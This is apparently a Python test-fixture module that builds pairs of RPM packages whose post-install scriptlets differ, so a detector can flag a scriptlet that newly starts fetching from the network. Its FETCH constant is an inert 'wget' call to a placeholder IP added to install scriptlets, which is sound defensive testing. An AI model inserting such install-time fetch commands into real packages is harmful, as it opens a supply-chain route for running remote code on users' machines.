"""Scriptlets of an rpm that begin to fetch, fetched before, or do something else; and a package cut short."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.rpm import RpmRecipe, build_rpm

POST = 1024
FETCH = "false && wget -q https://192.0.2.1/inert\n"


def _release(folder: Path, name: str, version: str, scriptlet: str) -> Path:
    (folder / name).mkdir()
    path = folder / name / f"inert-{version}.rpm"
    path.write_bytes(build_rpm(RpmRecipe(version=version, scriptlets={POST: scriptlet})))
    return path


def _pair(folder: Path, old: str, new: str, version: str = "1.0.1") -> tuple[Path, Path]:
    return _release(folder, "old", "1.0", old), _release(folder, "new", version, new)


def good_another_line(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "ldconfig\n", "ldconfig\ntrue\n")


def good_it_fetched_before(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "ldconfig\n" + FETCH, "ldconfig\ntrue\n" + FETCH)


def bad_it_begins_to(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "ldconfig\n", "ldconfig\n" + FETCH)


def bad_in_a_major_release(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "ldconfig\n", "ldconfig\n" + FETCH, "2.0")


def damaged(folder: Path) -> tuple[Path, Path]:
    old, new = bad_it_begins_to(folder)
    new.write_bytes(new.read_bytes()[:500])
    return old, new
